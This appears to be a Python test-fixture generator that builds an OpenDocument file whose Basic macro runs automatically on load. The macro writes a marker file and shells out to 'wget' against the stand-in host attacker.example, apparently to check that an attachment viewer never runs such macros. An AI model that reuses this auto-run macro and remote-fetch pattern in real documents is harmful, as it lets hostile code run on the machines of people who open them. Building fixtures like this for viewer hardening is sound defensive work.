# The sample org's document with a macro (README.md): an OpenDocument text with a Basic library whose
# OnOpen, bound to the document's load event, writes a marker file and calls out to the network.
# Run by make-documents.sh; deterministic (fixed entry dates).
import sys, zipfile
out = sys.argv[1]
fixed = (2026, 3, 12, 9, 30, 0)
MARK = "/tmp/attachment-viewer-macro-ran"
content = f'''<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office" office:version="1.3">
 <office:scripts>
  <office:event-listeners>
   <script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.OnOpen?language=Basic&amp;location=document" xlink:type="simple"/>
  </office:event-listeners>
 </office:scripts>
 <office:body>
  <office:text>
   <text:h text:outline-level="1">Claim form CLM-1012 (with a macro)</text:h>
   <text:p>This document carries a Basic macro bound to its opening. It would write {MARK} and call out to the network. The viewer converts the document without running it.</text:p>
  </office:text>
 </office:body>
</office:document-content>
'''
module = f'''<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub OnOpen
  Dim n As Integer
  n = FreeFile
  Open &quot;{MARK}&quot; For Output As #n
  Print #n, &quot;the macro ran&quot;
  Close #n
  Shell(&quot;/bin/sh&quot;, 0, &quot;-c &quot;&quot;touch {MARK}-shell; wget -q -O- http://attacker.example/x&quot;&quot;&quot;)
End Sub
</script:module>
'''
lib = '''<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd">
<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false">
 <library:element library:name="Module1"/>
</library:library>
'''
libs = '''<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">
<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink">
 <library:library library:name="Standard" library:link="false"/>
</library:libraries>
'''
manifest = '''<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">
 <manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
 <manifest:file-entry manifest:full-path="Basic/script-lc.xml" manifest:media-type="text/xml"/>
 <manifest:file-entry manifest:full-path="Basic/Standard/script-lb.xml" manifest:media-type="text/xml"/>
 <manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>
</manifest:manifest>
'''
def add(z, name, data, method=zipfile.ZIP_DEFLATED):
    info = zipfile.ZipInfo(name, fixed)
    info.compress_type = method
    z.writestr(info, data)
with zipfile.ZipFile(out, "w") as z:
    add(z, "mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
    add(z, "content.xml", content)
    add(z, "Basic/script-lc.xml", libs)
    add(z, "Basic/Standard/script-lb.xml", lib)
    add(z, "Basic/Standard/Module1.xml", module)
    add(z, "META-INF/manifest.xml", manifest)
